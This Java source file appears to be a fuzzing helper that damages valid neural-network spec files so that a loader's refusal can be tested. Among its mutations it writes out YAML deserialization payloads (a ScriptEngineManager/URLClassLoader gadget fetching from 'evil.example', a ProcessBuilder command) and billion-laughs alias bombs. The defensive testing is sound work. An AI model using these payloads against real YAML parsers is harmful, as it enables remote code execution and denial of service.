package dev.gradproof.campaign;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.snakeyaml.engine.v2.api.Dump;
import org.snakeyaml.engine.v2.api.DumpSettings;
import org.snakeyaml.engine.v2.api.Load;
import org.snakeyaml.engine.v2.api.LoadSettings;
import org.snakeyaml.engine.v2.common.FlowStyle;
import java.net.URL;
import javax.script.ScriptEngineManager;

/**
 * Structured damage to a valid spec, each kind invalid by construction: the result must be refused.
 * Tree mutations load the spec with snakeyaml-engine (plain maps and lists), change one thing and dump
 * it back; text and byte mutations edit the file as written (comments, anchors and all).
 */
final class SpecMutations {

    enum Kind {
        /** A required key removed: network, loss, data, inputs, layers, a layer's units or activation, loss.type... */
        DELETE_REQUIRED,
        /** A value replaced by one of a type no field accepts there (a list of lists, a map for a list). */
        WRONG_TYPE,
        /** A size set to 1e12, -5, 0, 1.5, 2^31, 10^20 or 1e400. */
        HUGE_OR_NEGATIVE,
        /** A layer's activation renamed to one that does not exist. */
        UNKNOWN_ACTIVATION,
        /** A declared derivative (or a custom value) that does not parse. */
        MALFORMED_EXPRESSION,
        /** A misspelt key added to one of the spec's maps. */
        UNKNOWN_KEY,
        /** Invalid UTF-8 bytes inserted anywhere, comments included. */
        INVALID_UTF8,
        /** A value replaced by thousands of nested brackets, braces or block sequences. */
        DEEP_NESTING,
        /** Anchors and aliases that would expand exponentially (billion laughs), or many aliases. */
        ALIAS_BOMB,
        /** Tags asking for Java types: URL, ScriptEngineManager, a test canary... */
        JAVA_TAG
    }

    /** A mutated file: what was done, and its bytes. */
    record Mutation(Kind kind, String what, byte[] bytes) {
        @Override
        public String toString() {
            return kind + ": " + what;
        }
    }

    static final String[] SIZE_VALUES = {"1e12", "-5", "0", "1.5", "2147483648", "100000000000000000000", "1e400", "-1"};
    static final String[] BAD_ACTIVATIONS = {"swish", "gelu", "relu6", "ReLU", "Sigmoid", "", "tanh_", "soft max"};
    static final String[] BAD_EXPRESSIONS = {"1 - tanh(x", "tanhh(x)", "x +* 2", "", "x^^2", "1/", "max(x)", "y * 2",
        "(".repeat(200) + "x" + ")".repeat(200), "sin(x) cos(x)", "1e", "exp(x,)", "x" + " + x".repeat(3000)};
    static final String[] TAG_PAYLOADS = {
        "!!java.net.URL [\"http://example.com/\"]",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
        "!!dev.gradproof.campaign.Canary {value: 1}",
        "!!dev.gradproof.campaign.Canary [\"x\"]",
        "!!java.lang.ProcessBuilder [[\"touch\", \"/tmp/gradproof-pwned\"]]",
        "!<tag:yaml.org,2002:java.net.URL> [\"http://example.com/\"]",
        "!custom 3",
    };

    private static final Pattern KEY_LINE = Pattern.compile("^(\\s*(?:- )?)([A-Za-z_][A-Za-z0-9_]*):(\\s*)(.*)$");

    private SpecMutations() {
    }

    static Mutation apply(String text, Kind kind, SplittableRandom r) {
        return switch (kind) {
            case INVALID_UTF8 -> invalidUtf8(text, r);
            case DEEP_NESTING -> deepNesting(text, r);
            case ALIAS_BOMB -> aliasBomb(text, r);
            case JAVA_TAG -> javaTag(text, r);
            default -> tree(text, kind, r);
        };
    }

    // ---- tree mutations ------------------------------------------------------------------------

    @SuppressWarnings("unchecked")
    private static Mutation tree(String text, Kind kind, SplittableRandom r) {
        Map<String, Object> doc = (Map<String, Object>) new Load(LoadSettings.builder().build()).loadFromString(text);
        String what = switch (kind) {
            case DELETE_REQUIRED -> deleteRequired(doc, r);
            case WRONG_TYPE -> wrongType(doc, r);
            case HUGE_OR_NEGATIVE -> hugeOrNegative(doc, r);
            case UNKNOWN_ACTIVATION -> unknownActivation(doc, r);
            case MALFORMED_EXPRESSION -> malformedExpression(doc, r);
            case UNKNOWN_KEY -> unknownKey(doc, r);
            default -> throw new IllegalArgumentException(kind.toString());
        };
        DumpSettings settings = DumpSettings.builder().setDefaultFlowStyle(FlowStyle.BLOCK).setWidth(100_000).build();
        return new Mutation(kind, what, new Dump(settings).dumpToString(doc).getBytes(StandardCharsets.UTF_8));
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> map(Object o) {
        return o instanceof Map<?, ?> m ? (Map<String, Object>) m : null;
    }

    @SuppressWarnings("unchecked")
    private static List<Object> layers(Map<String, Object> doc) {
        Map<String, Object> network = map(doc.get("network"));
        return network != null && network.get("layers") instanceof List<?> l ? (List<Object>) l : List.of();
    }

    private static String deleteRequired(Map<String, Object> doc, SplittableRandom r) {
        List<Runnable> options = new ArrayList<>();
        List<String> names = new ArrayList<>();
        for (String key : new String[] {"network", "loss", "data"}) {
            options.add(() -> doc.remove(key));
            names.add("deleted " + key);
        }
        Map<String, Object> network = map(doc.get("network"));
        if (network != null) {
            String input = network.containsKey("input") ? "input" : "inputs";
            options.add(() -> network.remove(input));
            names.add("deleted network." + input);
            options.add(() -> network.remove("layers"));
            names.add("deleted network.layers");
        }
        List<Object> layers = layers(doc);
        boolean graph = network != null && network.containsKey("input") || layers.stream().map(SpecMutations::map)
                .anyMatch(l -> l != null && (l.containsKey("type") || l.containsKey("name") || l.containsKey("from")));
        for (int i = 0; i < layers.size(); i++) {
            Map<String, Object> layer = map(layers.get(i));
            if (layer == null) {
                continue;
            }
            final int at = i;
            // A graph's layers require their type's own sizes; an activation only a dense chain requires.
            for (String key : required(layer, graph)) {
                options.add(() -> layer.remove(key));
                names.add("deleted network.layers[" + at + "]." + key);
            }
            Map<String, Object> act = map(layer.get("activation"));
            if (act != null) {
                options.add(() -> act.remove("name"));
                names.add("deleted network.layers[" + at + "].activation.name");
            }
        }
        Map<String, Object> loss = map(doc.get("loss"));
        if (loss != null) {
            options.add(() -> loss.remove("type"));
            names.add("deleted loss.type");
        }
        Map<String, Object> data = map(doc.get("data"));
        if (data != null && !data.containsKey("generator") && !data.containsKey("csv")) {
            options.add(() -> data.remove("examples"));
            names.add("deleted data.examples");
        }
        int k = r.nextInt(options.size());
        options.get(k).run();
        return names.get(k);
    }

    /** Every (container, key) pair of the tree, with its dotted path. */
    private record Slot(Object container, Object key, String path) {
    }

    @SuppressWarnings("unchecked")
    private static void slots(Object node, String path, List<Slot> out) {
        if (node instanceof Map<?, ?> m) {
            for (Object key : m.keySet()) {
                String p = path.isEmpty() ? String.valueOf(key) : path + "." + key;
                out.add(new Slot(m, key, p));
                slots(m.get(key), p, out);
            }
        } else if (node instanceof List<?> l) {
            for (int i = 0; i < l.size(); i++) {
                String p = path + "[" + i + "]";
                out.add(new Slot(l, i, p));
                slots(l.get(i), p, out);
            }
        }
    }

    @SuppressWarnings("unchecked")
    private static void set(Slot s, Object value) {
        if (s.container() instanceof Map<?, ?> m) {
            ((Map<Object, Object>) m).put(s.key(), value);
        } else {
            ((List<Object>) s.container()).set((Integer) s.key(), value);
        }
    }

    private static Object get(Slot s) {
        return s.container() instanceof Map<?, ?> m ? m.get(s.key()) : ((List<?>) s.container()).get((Integer) s.key());
    }

    private static String wrongType(Map<String, Object> doc, SplittableRandom r) {
        List<Slot> all = new ArrayList<>();
        slots(doc, "", all);
        Slot s = all.get(r.nextInt(all.size()));
        Object old = get(s);
        Object value;
        String shown;
        if (old instanceof List<?>) {
            Map<String, Object> m = new LinkedHashMap<>();
            m.put("not", List.of("a", "list"));
            value = m;
            shown = "{not: [a, list]}";
        } else {
            value = List.of(List.of(1, 2), List.of("x"));
            shown = "[[1, 2], [x]]";
        }
        set(s, value);
        return s.path() + ": " + describe(old) + " -> " + shown;
    }

    private static String describe(Object o) {
        String t = String.valueOf(o);
        return t.length() > 40 ? t.substring(0, 40) + "..." : t;
    }

    /** The keys a layer cannot do without (docs: specs/README.md, the layer types' table). */
    static List<String> required(Map<String, Object> layer, boolean graph) {
        String type = String.valueOf(layer.getOrDefault("type", "dense"));
        List<String> keys = new ArrayList<>(switch (type) {
            case "dense" -> List.of("units");
            case "conv1d", "conv2d" -> List.of("out_channels", "kernel");
            case "max_pool2d", "avg_pool2d" -> List.of("kernel");
            case "dropout" -> List.of("p");
            case "embedding" -> List.of("vocabulary", "dim");
            case "rnn", "lstm", "gru" -> List.of("hidden");
            case "attention" -> List.of("heads");
            case "add", "concat" -> List.of("from");
            default -> List.<String>of();
        });
        if (!graph) {
            keys.add("activation");
        }
        keys.removeIf(k -> !layer.containsKey(k));
        return keys;
    }

    private static String hugeOrNegative(Map<String, Object> doc, SplittableRandom r) {
        List<Slot> sizes = new ArrayList<>();
        Map<String, Object> network = map(doc.get("network"));
        if (network != null && network.containsKey("inputs")) {
            sizes.add(new Slot(network, "inputs", "network.inputs"));
        }
        List<Object> layers = layers(doc);
        for (int i = 0; i < layers.size(); i++) {
            Map<String, Object> layer = map(layers.get(i));
            if (layer != null) {
                sizes.add(new Slot(layer, "units", "network.layers[" + i + "].units"));
            }
        }
        Map<String, Object> data = map(doc.get("data"));
        if (data != null) {
            sizes.add(new Slot(data, "examples", "data.examples"));
        }
        Map<String, Object> check = map(doc.get("check"));
        if (check == null) {
            check = new LinkedHashMap<>();
            doc.put("check", check);
        }
        sizes.add(new Slot(check, "trials", "check.trials"));
        Slot s = sizes.get(r.nextInt(sizes.size()));
        String v = SIZE_VALUES[r.nextInt(SIZE_VALUES.length)];
        set(s, new Load(LoadSettings.builder().build()).loadFromString(v));
        return s.path() + ": " + v;
    }

    private static String unknownActivation(Map<String, Object> doc, SplittableRandom r) {
        List<Object> layers = layers(doc);
        int i = r.nextInt(layers.size());
        Map<String, Object> layer = map(layers.get(i));
        String bad = BAD_ACTIVATIONS[r.nextInt(BAD_ACTIVATIONS.length)];
        if (r.nextBoolean()) {
            layer.put("activation", bad);
        } else {
            Map<String, Object> act = new LinkedHashMap<>();
            act.put("name", bad);
            layer.put("activation", act);
        }
        return "network.layers[" + i + "].activation: '" + bad + "'";
    }

    private static String malformedExpression(Map<String, Object> doc, SplittableRandom r) {
        List<Object> layers = layers(doc);
        int i = r.nextInt(layers.size());
        Map<String, Object> layer = map(layers.get(i));
        String bad = BAD_EXPRESSIONS[r.nextInt(BAD_EXPRESSIONS.length)];
        Map<String, Object> act = new LinkedHashMap<>();
        if (r.nextBoolean()) {
            act.put("name", "custom");
            act.put("value", bad);
            act.put("derivative", "1");
        } else {
            act.put("name", "tanh");
            act.put("derivative", bad);
        }
        layer.put("activation", act);
        String shown = bad.length() > 30 ? bad.substring(0, 30) + "...(" + bad.length() + " chars)" : bad;
        return "network.layers[" + i + "].activation." + (act.containsKey("value") ? "value" : "derivative")
                + ": '" + shown + "'";
    }

    private static String unknownKey(Map<String, Object> doc, SplittableRandom r) {
        List<Slot> all = new ArrayList<>();
        slots(doc, "", all);
        List<Map<String, Object>> maps = new ArrayList<>();
        List<String> paths = new ArrayList<>();
        maps.add(doc);
        paths.add("(top)");
        for (Slot s : all) {
            Map<String, Object> m = map(get(s));
            if (m != null) {
                maps.add(m);
                paths.add(s.path());
            }
        }
        int k = r.nextInt(maps.size());
        String key = pick(r, new String[] {"unitz", "lyaers", "reduce", "activations", "exmaples", "Trials", "l2_bias"});
        maps.get(k).put(key, 3);
        return paths.get(k) + ": added '" + key + "'";
    }

    // ---- text and byte mutations ---------------------------------------------------------------

    /** Lines of the form {@code key: value}, by index. */
    private static List<Integer> keyLines(List<String> lines) {
        List<Integer> out = new ArrayList<>();
        for (int i = 0; i < lines.size(); i++) {
            if (!lines.get(i).stripLeading().startsWith("#") && KEY_LINE.matcher(lines.get(i)).matches()) {
                out.add(i);
            }
        }
        return out;
    }

    /** Replaces the value of a random {@code key: value} line (the block under it, if any, stays). */
    private static String replaceValue(String text, SplittableRandom r, String value, StringBuilder where) {
        List<String> lines = new ArrayList<>(List.of(text.split("\n", -1)));
        List<Integer> candidates = keyLines(lines);
        int i = candidates.get(r.nextInt(candidates.size()));
        Matcher m = KEY_LINE.matcher(lines.get(i));
        if (!m.matches()) {
            throw new IllegalStateException(lines.get(i));
        }
        lines.set(i, m.group(1) + m.group(2) + ": " + value);
        where.append("line ").append(i + 1).append(" (").append(m.group(2)).append(')');
        return String.join("\n", lines);
    }

    private static Mutation invalidUtf8(String text, SplittableRandom r) {
        byte[][] bad = {
            {(byte) 0xFF}, {(byte) 0xFE}, {(byte) 0xC3}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0x80}, {(byte) 0xE2, (byte) 0x82},
            {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}};
        byte[] src = text.getBytes(StandardCharsets.UTF_8);
        // Insert between characters (never inside a valid multi-byte sequence).
        int at = r.nextInt(src.length + 1);
        while (at < src.length && (src[at] & 0xC0) == 0x80) {
            at++;
        }
        byte[] b = bad[r.nextInt(bad.length)];
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(src, 0, at);
        out.writeBytes(b);
        out.write(src, at, src.length - at);
        StringBuilder hex = new StringBuilder();
        for (byte x : b) {
            hex.append(String.format("%02X ", x & 0xFF));
        }
        return new Mutation(Kind.INVALID_UTF8, "bytes " + hex.toString().trim() + " at offset " + at, out.toByteArray());
    }

    private static Mutation deepNesting(String text, SplittableRandom r) {
        int depth = 65 + r.nextInt(20_000);
        String value = switch (r.nextInt(4)) {
            case 0 -> "[".repeat(depth) + "]".repeat(depth);
            case 1 -> "{a: ".repeat(depth) + "1" + "}".repeat(depth);
            case 2 -> "[".repeat(depth);
            default -> "\n" + blockNesting(Math.min(depth, 600)); // ~360 KB: under the 1 MiB file limit
        };
        StringBuilder where = new StringBuilder();
        String mutated = replaceValue(text, r, value, where);
        return new Mutation(Kind.DEEP_NESTING, depth + " levels at " + where, mutated.getBytes(StandardCharsets.UTF_8));
    }

    private static String blockNesting(int depth) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            b.append("  ".repeat(i + 1)).append("-\n");
        }
        return b.append("  ".repeat(depth + 1)).append("x").toString();
    }

    private static Mutation aliasBomb(String text, SplittableRandom r) {
        int width = 2 + r.nextInt(9);
        int levels = 3 + r.nextInt(8);
        StringBuilder bomb = new StringBuilder("bomb0: &a0 [" + "\"lol\", ".repeat(width - 1) + "\"lol\"]\n");
        for (int l = 1; l < levels; l++) {
            bomb.append("bomb").append(l).append(": &a").append(l).append(" [");
            for (int i = 0; i < width; i++) {
                bomb.append(i > 0 ? ", " : "").append("*a").append(l - 1);
            }
            bomb.append("]\n");
        }
        StringBuilder where = new StringBuilder();
        String mutated;
        String target = "*a" + (levels - 1);
        if (r.nextBoolean()) {
            // the bomb inside the spec: a real key's value aliases the last level
            mutated = bomb + replaceValue(text, r, target, where);
        } else {
            mutated = bomb + text;
            where.append("prepended only");
        }
        long expanded = (long) Math.pow(width, levels);
        return new Mutation(Kind.ALIAS_BOMB, width + "^" + levels + " = " + expanded + " strings if expanded, "
                + (levels - 1) * width + " aliases, " + where, mutated.getBytes(StandardCharsets.UTF_8));
    }

    private static Mutation javaTag(String text, SplittableRandom r) {
        String payload = TAG_PAYLOADS[r.nextInt(TAG_PAYLOADS.length)];
        StringBuilder where = new StringBuilder();
        String mutated;
        if (r.nextInt(4) == 0) {
            // a tag on a key
            mutated = text + "\n" + payload.substring(0, payload.indexOf(' ')) + " key: 1\n";
            where.append("on a key at the end");
        } else {
            mutated = replaceValue(text, r, payload, where);
        }
        return new Mutation(Kind.JAVA_TAG, payload + " at " + where, mutated.getBytes(StandardCharsets.UTF_8));
    }

    private static <T> T pick(SplittableRandom r, T[] xs) {
        return xs[r.nextInt(xs.length)];
    }
}
